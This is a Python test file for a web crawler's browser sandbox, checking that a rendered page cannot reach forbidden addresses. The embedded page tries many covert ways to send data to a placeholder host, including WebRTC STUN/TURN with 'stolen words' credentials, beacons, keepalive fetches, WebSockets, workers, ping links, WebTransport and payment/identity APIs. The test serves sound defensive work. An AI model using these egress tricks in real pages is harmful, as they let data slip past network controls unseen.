"""A page in the browser reaches no address that its source may not reach, by whatever protocol it tries."""

from __future__ import annotations

import shutil
from collections.abc import Iterator

import pytest
from support.listener import Listener
from support.project import Workspace
from support.requirement import require
from support.resource import Reply
from support.server import Request
from support.site import Site

from ultracrawl.run.rendering.browser import NETWORK_BLOCKING_FLAGS, PROGRAMS, browser_program

pytestmark = pytest.mark.servers

HEAD = """
<link rel=preconnect href="http://HOST/"><link rel=dns-prefetch href="http://HOST/">
<link rel=prefetch href="http://HOST/prefetch"><link rel=modulepreload href="http://HOST/module">
<link rel=preload as=image href="http://HOST/image"><link rel=icon href="http://HOST/icon">
<link rel=manifest href="http://HOST/manifest"><link rel=stylesheet href="http://HOST/style">
<script type=speculationrules>
{"prefetch": [{"urls": ["http://HOST/speculative"], "eagerness": "immediate"}],
 "prerender": [{"urls": ["http://HOST/speculative"], "eagerness": "immediate"}]}
</script>
"""
ATTEMPTS = {
    "stun": "peer('stun:HOST')",
    "turn over udp": "peer('turn:HOST?transport=udp')",
    "turn over tcp": "peer('turn:HOST?transport=tcp')",
    "turn over tls": "peer('turns:HOST?transport=tcp')",
    "stun in a frame": "peer('stun:HOST', frame().contentWindow)",
    "a peer": """(async () => {
        const one = new RTCPeerConnection(), two = new RTCPeerConnection(), [host, port] = 'HOST'.split(':');
        one.createDataChannel('x');
        await one.setLocalDescription(await one.createOffer());
        await two.setRemoteDescription(one.localDescription);
        await one.setRemoteDescription(await two.createAnswer());
        for (const way of [`udp 2122260223 ${host} ${port} typ host`,
                           `tcp 1518280447 ${host} ${port} typ host tcptype passive`])
          await one.addIceCandidate({candidate: `candidate:1 1 ${way}`, sdpMid: '0', sdpMLineIndex: 0});
    })()""",
    "websocket": "ends(new WebSocket('ws://HOST/'))",
    "websocket of a worker": """new Promise(done => {
        const code = `new WebSocket('ws://HOST/').onerror = () => postMessage(0)`;
        new Worker(URL.createObjectURL(new Blob([code]))).onmessage = done;
    })""",
    "shared worker": """new Promise(done => {
        const code = `fetch('http://HOST/', {mode: 'no-cors'}).catch(() => 0);
                      onconnect = one => one.ports[0].postMessage(0)`;
        new SharedWorker(URL.createObjectURL(new Blob([code]))).port.onmessage = done;
    })""",
    "webtransport": "new WebTransport('https://HOST/').ready",
    "event source": "ends(new EventSource('http://HOST/'))",
    "beacon": "navigator.sendBeacon('http://HOST/', 'words')",
    "keepalive": "fetch('http://HOST/', {method: 'POST', mode: 'no-cors', keepalive: true, body: 'words'})",
    "fetch later": "fetchLater('https://HOST/', {activateAfter: 0})",
    "ping": "click(`<a href='#x' ping='http://HOST/'>x</a>`)",
    "service worker": "navigator.serviceWorker.register('/worker.js')",
    "log-in": """navigator.credentials.get(
        {identity: {providers: [{configURL: 'https://HOST/config.json', clientId: 'x'}]}})""",
    "payment": """new PaymentRequest([{supportedMethods: 'https://HOST/pay'}],
        {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment()""",
}
TRYING = """
const ends = one => new Promise(done => { one.onerror = one.onopen = done; });
const frame = () => document.body.appendChild(document.createElement('iframe'));
const click = markup => {
  document.body.insertAdjacentHTML('beforeend', markup); document.body.lastElementChild.click(); };
const peer = async (urls, view = window) => {
  const one = new view.RTCPeerConnection({iceServers: [{urls, username: 'stolen words', credential: 'x'}]});
  one.createDataChannel('x');
  await one.setLocalDescription(await one.createOffer());
};
const time = seconds => new Promise(done => setTimeout(done, 1000 * seconds));
const tried = async (name, attempt) => {
  let how = 'done';
  try { await Promise.race([attempt(), time(5)]); } catch (error) { how = String(error); }
  await time(1);
  fetch('/tried?' + encodeURIComponent(`${name}: ${how}`));
};
"""


@pytest.fixture(autouse=True)
def chromium() -> None:
    require(any(map(shutil.which, PROGRAMS)), "Chromium", "chromium")


@pytest.fixture
def listener() -> Iterator[Listener]:
    with Listener().open() as one:
        yield one


@pytest.fixture
def tried(site: Site, listener: Listener) -> dict[str, str]:
    """What the page at `/` has tried, and how that went; its last script comes when it has tried all."""
    told: dict[str, str] = {}
    site.file("/last.js", b"", "text/javascript")
    complete = site.hold("/last.js")

    def tell(request: Request) -> Reply:
        name, _, how = request.path.partition("?")[2].replace("%20", " ").partition("%3A ")
        told[name] = how
        if told.keys() == ATTEMPTS.keys():
            complete.set()
        return Reply(200, (), b"")

    site.dynamic("/tried*", tell)
    attempts = "".join(f"tried({name!r}, async () => {code});\n" for name, code in ATTEMPTS.items())
    page = f"{HEAD}<body><p>x</p><script>{TRYING}{attempts}</script><script src=/last.js></script>"
    site.file("/", page.replace("HOST", listener.address).encode(), "text/html")
    return told


def test_no_protocol_goes_round_the_address_guard(
    url: str, workspace: Workspace, listener: Listener, tried: dict[str, str]
) -> None:
    boundary = {"networks": ["127.0.0.1/32"]}
    workspace.define(f"{url}/", javascript={"use": True, "timeout": 40, "parts": 1000}, boundary=boundary)
    run = workspace.crawl().run
    assert "javascript failed" not in run["rejected_by"]
    assert tried.keys() == ATTEMPTS.keys()
    assert listener.came == []


@pytest.mark.parametrize(
    ("walls", "reached"),
    [((), {"udp", "tcp"}), (NETWORK_BLOCKING_FLAGS, set())],
    ids=["none", "of the browser alone"],
)
def test_what_the_page_reaches_without_the_crawler(
    url: str, listener: Listener, tried: dict[str, str], walls: tuple[str, ...], reached: set[str]
) -> None:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=browser_program(None),
            args=["--disable-features=LocalNetworkAccessChecks", "--disable-dev-shm-usage", *walls],
            chromium_sandbox=False,
        )
        page = browser.new_page()
        page.route(f"{url}/**", lambda route: route.fulfill(response=route.fetch()))
        page.goto(f"{url}/", timeout=60_000)
        browser.close()
    assert tried.keys() == ATTEMPTS.keys()
    assert tried["stun in a frame"] == "done", "WebRTC was there"
    assert set(listener.came) == reached
